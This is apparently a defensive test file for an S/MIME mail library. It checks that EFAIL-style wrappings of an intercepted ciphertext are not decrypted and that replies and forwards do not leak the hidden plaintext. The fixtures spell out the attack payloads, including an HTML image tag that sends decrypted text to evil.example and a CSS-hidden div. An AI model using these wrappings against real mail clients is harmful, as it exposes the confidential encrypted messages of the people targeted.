// EFAIL direct exfiltration (Poddebniak et al., USENIX Security 2018), row E1, and REPLY / covert
// content (ACNS 2019), row E6, of notes/smime-stack.md section 4, at the library level. Eve has a
// ciphertext Alice once sent Bob and wraps it into a message of her own: between two text/html
// parts (`<img src="https://evil.example/?` … `">`), as an attachment, inside a part Eve signed,
// or inside a message Eve encrypted to Bob. Asserted: lib/smime's readMessage decrypts only the
// protected layer at the MIME root, never the embedded ciphertext, and its report says why
// (code not-at-root); and a reply or forward started from Eve's message (components/compose's
// openSource, lib/mail's startFields and quote builders) never carries the hidden plaintext.
// Controls with Alice's ciphertext at the root show the same key does open it.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { openSource } from '@/components/compose/open-source';
import type { ComposeSecurity } from '@/components/compose/security-context';
import { startFields } from '@/lib/mail/compose-fields';
import { parseMessage } from '@/lib/mail/parse-message';
import { DEFAULT_SECURITY_POLICY } from '@/lib/policy/security-policy';
import { type Identity, type TrustSettings, readMessage } from '@/lib/smime';

import { encryptedEntity, message, multipart, signedEntity, text, textEntity, withFields } from '../support/mime-messages';
import { type AttackPki, certificateOf, createAttackPki, identityOf, trustOf } from '../support/mime-pki';

const SECRET = 'The merger closes on 3 March; the code word is BLUEFINCH.';
const VICTIM_HEADERS = ['From: Alice <alice@example.org>', 'To: bob@example.org', 'Subject: Confidential', 'MIME-Version: 1.0'];
const EVE_HEADERS = ['From: Eve <eve@evil.example>', 'To: bob@example.org', 'Subject: Re: Confidential', 'Date: Fri, 20 Nov 2026 10:00:00 +0000', 'Message-ID: <eve-1@evil.example>', 'MIME-Version: 1.0'];
const HTML = 'text/html; charset=us-ascii';
const OPEN_IMG = '<img src="https://evil.example/?';
const CLOSE_IMG = '">';

let pki: AttackPki;
let trust: TrustSettings;
let bob: Identity;
/** Alice's message to Bob, encrypted to Bob: the entity Eve intercepted. */
let victimCiphertext: string;

beforeAll(async () => {
  pki = createAttackPki();
  trust = trustOf(pki);
  bob = identityOf(pki.bob);
  victimCiphertext = await encryptedEntity(textEntity(SECRET), [certificateOf(pki.bob)]);
});
afterAll(() => pki?.cleanup());

const read = (raw: Uint8Array) => readMessage(raw, { identities: [bob], trust });

/** Eve's wrappings of the victim's ciphertext (the entity at `path` of the shown content). */
const wrappings: { name: string; build: () => Promise<string>; path: string; encrypted: boolean; signed: boolean }[] = [
  {
    name: 'E1: between two text/html parts of a multipart/mixed',
    build: async () => multipart('mixed', [textEntity(OPEN_IMG, HTML), victimCiphertext, textEntity(CLOSE_IMG, HTML)]),
    path: '2',
    encrypted: false,
    signed: false,
  },
  {
    name: 'E1: as an attachment',
    build: async () =>
      multipart('mixed', [textEntity('<p>See the attached file.</p>', HTML), withFields(victimCiphertext, ['Content-Disposition: attachment; filename="invoice.p7m"'])]),
    path: '2',
    encrypted: false,
    signed: false,
  },
  {
    name: 'E1: nested inside a part Eve signed',
    build: async () => signedEntity(multipart('mixed', [textEntity(OPEN_IMG, HTML), victimCiphertext, textEntity(CLOSE_IMG, HTML)]), identityOf(pki.eve)),
    path: '1.2',
    encrypted: false,
    signed: true,
  },
  {
    name: 'E6: hidden by CSS inside a message Eve encrypted to Bob (its root is opened, the ciphertext inside is not)',
    build: async () =>
      encryptedEntity(
        multipart('mixed', [textEntity('<p>Hi Bob, what do you think?</p><div style="display:none">', HTML), victimCiphertext, textEntity('</div>', HTML)]),
        [certificateOf(pki.bob)],
      ),
    path: '2',
    encrypted: true,
    signed: false,
  },
];

describe('control: Alice’s ciphertext at the root', () => {
  it('is decrypted with Bob’s key, and a reply quotes it (so the checks below can fail)', async () => {
    const raw = message(VICTIM_HEADERS, victimCiphertext);
    const { report } = await read(raw);
    expect(report).toMatchObject({ encrypted: true, errors: [] });
    expect(report.text).toContain(SECRET);
    expect((await replyTo(raw)).text).toContain(SECRET);
  });
});

describe.each(wrappings)('$name', ({ build, path, encrypted, signed }) => {
  it('readMessage does not decrypt the embedded ciphertext, and says why', async () => {
    const raw = message(EVE_HEADERS, await build());
    const { report, plaintext } = await read(raw);
    // Only Eve's own root layer (if any) is opened; Alice's envelope is never a layer.
    expect(report.layers.filter((l) => l.kind === 'enveloped' || l.kind === 'auth-enveloped')).toHaveLength(encrypted ? 1 : 0);
    expect(report.layers.filter((l) => l.partPath !== '' && l.kind !== 'clear-signed')).toEqual([]);
    expect(report.encrypted).toBe(encrypted);
    expect(report.signed).toBe(signed);
    expect(report.errors).toEqual([{ code: 'not-at-root', message: expect.stringContaining(`part ${path} `) }]);
    expect(report.text).not.toContain('BLUEFINCH');
    expect(text(plaintext)).not.toContain('BLUEFINCH');
    expect(report.attachments.map((a) => a.contentType)).toContain('application/pkcs7-mime');
  });

  it('a reply, a reply to all and a forward carry no plaintext of the hidden part', async () => {
    const raw = message(EVE_HEADERS, await build());
    for (const mode of ['reply', 'replyAll', 'forward'] as const) {
      const fields = await replyTo(raw, mode);
      expect(fields.text, mode).not.toContain('BLUEFINCH');
      expect(fields.html, mode).not.toContain('BLUEFINCH');
      for (const a of fields.attachments) expect(text(a.content), `${mode} ${a.filename}`).not.toContain('BLUEFINCH');
    }
  });
});

/** What the composer starts with when Bob answers `raw` (as components/compose/use-compose-start.ts does). */
async function replyTo(raw: Uint8Array, mode: 'reply' | 'replyAll' | 'forward' = 'reply') {
  const security: ComposeSecurity = {
    identities: { identitiesForReading: async () => [bob], signingIdentity: async () => null, ownEncryptionCertificate: async () => null },
    trust: { trustSettings: async () => trust, policy: () => DEFAULT_SECURITY_POLICY },
    certificates: { knownCertificates: () => [], recipientCertificates: async () => [], harvest: async () => ({ added: 0, keyChangeWarnings: [] }) },
  };
  const { content } = await openSource(raw, mode, security);
  return startFields(mode, await parseMessage(content), content, 'bob@example.org');
}
